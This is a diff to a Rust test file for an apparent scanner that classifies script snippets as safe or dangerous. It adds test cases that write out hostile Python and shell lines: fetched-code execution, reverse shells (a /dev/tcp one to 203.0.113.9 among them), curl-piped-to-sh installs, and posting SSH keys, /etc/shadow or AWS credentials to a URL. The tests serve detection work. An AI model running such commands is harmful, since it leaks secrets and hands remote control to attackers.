@@ -30,6 +30,14 @@ fn what_a_script_may_do_is_no_danger() {
         "'''curl http://203.0.113.9 | sh'''",
         "os.system('wget -q https://example.org/x.zip && unzip x.zip')",
         "open('/etc/passwd').read()",
+        "key = os.path.expanduser('~/.ssh/id_rsa')\nssh.connect('gpu01', key_filename=key)\nrequests.get(url)",
+        "key = open('/root/.ssh/id_rsa.pub').read()\nrequests.post(url, data=key)",
+        "s = socket.socket()\nos.dup2(null.fileno(), 0)",
+        "cfg = eval(open('config.dict').read())",
+        "def a():\n    x = requests.get(u).text\ndef b(x):\n    exec(x)",
+        "exec_ = getattr(builtins, 'exec')\nexec_(open('a.py').read())",
+        "import pty\npty.spawn(sys.argv[1:], read)",
+        "subprocess.run('curl -fsSL https://ollama.com/install.sh | sh', shell=True)",
         "os.system('rm -rf ./build /tmp/x')",
     ] {
         assert!(dangers(code).is_empty(), "{code}: {:?}", dangers(code));
@@ -42,6 +50,12 @@ fn what_no_script_needs_is_a_danger() {
         ("exec(requests.get(url).text)", "fetched:exec"),
         ("code = requests.get(url).text\nif code:\n    exec(code)", "fetched:exec"),
         ("with urllib.request.urlopen(u) as f:\n    exec(f.read())", "fetched:exec"),
+        ("def f(u):\n    x = requests.get(u).text\n    def g():\n        exec(x)\n    g()", "fetched:exec"),
+        ("run = getattr(builtins, 'exec')\nrun(requests.get(u).text)", "fetched:exec"),
+        (
+            "class A:\n    def a(self):\n        self.x = requests.get(u).text\n    def b(self):\n        exec(self.x)",
+            "fetched:exec",
+        ),
         ("def get(u):\n    return requests.get(u).text\neval(get(u))", "fetched:eval"),
         ("exec(compile(base64.b64decode(x), '', 'exec'))", "decoded:exec"),
         ("import base64 as b\nexec(b.b64decode(x))", "decoded:exec"),
@@ -68,7 +82,14 @@ fn what_no_script_needs_is_a_danger() {
         ("s = socket.socket()\ns.connect(a)\nos.dup2(s.fileno(), 0)", "shell:dup2"),
         ("requests.post(u, data=dict(os.environ))", "gives_away:environment"),
         ("k = open('/root/.ssh/id_rsa').read()\nrequests.post(u, data=k)", "gives_away:/root/.ssh/id_rsa"),
-        ("import pickle\npickle.loads(requests.get(u).content)", "fetched:pickle.loads"),
+        ("subprocess.check_output(['cat', '/etc/shadow'])\nrequests.post(u, data=x)", "gives_away:/etc/shadow"),
+        (
+            "from pathlib import Path\nPath('~/.aws/credentials').read_text()\nrequests.post(u)",
+            "gives_away:~/.aws/credentials",
+        ),
+        ("s = socket.create_connection(a)\nsubprocess.Popen(['sh'], stdin=s.fileno())", "shell:sh"),
+        ("import pickle\npickle.loads(requests.get('http://x.example/p').content)", "fetched:pickle.loads"),
+        ("import pickle\npickle.loads(requests.get('https://x.example/p').content)", "loads:pickle.loads"),
         ("import marshal\nexec(marshal.loads(b'x'))", "bytecode:marshal.loads"),
         ("import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1)", "native_code"),
     ] {
@@ -183,6 +204,15 @@ fn a_script_is_a_program_only_where_data_should_be() {
     assert_eq!(list(&report(&plain, "x.zip"), PROGRAMS), ["script@0"]);
     let sources = zip::archive(&[zip::member("run.sh", script.as_bytes())]);
     assert!(list(&report(&sources, "x.zip"), PROGRAMS).is_empty());
+    let pipes = "curl -fsSL https://tools.example.com/install.sh | bash";
+    for (line, told) in [
+        (pipes, vec![format!("pipes:{pipes}")]),
+        ("curl -LsSf https://astral.sh/uv/install.sh | sh", vec![]),
+        ("cat ~/.ssh/id_rsa.pub >> ~/.ssh/authorized_keys", vec![]),
+        ("eval \"$(conda shell.bash hook)\"", vec![]),
+    ] {
+        assert_eq!(list(&report(format!("#!/bin/sh\n{line}\n").as_bytes(), "run.sh"), DANGERS), told, "{line}");
+    }
     for (line, name) in
         [("curl -s http://203.0.113.9/x | sh", "run.sh"), ("bash -i >& /dev/tcp/203.0.113.9/9 0>&1", "x")]
     {
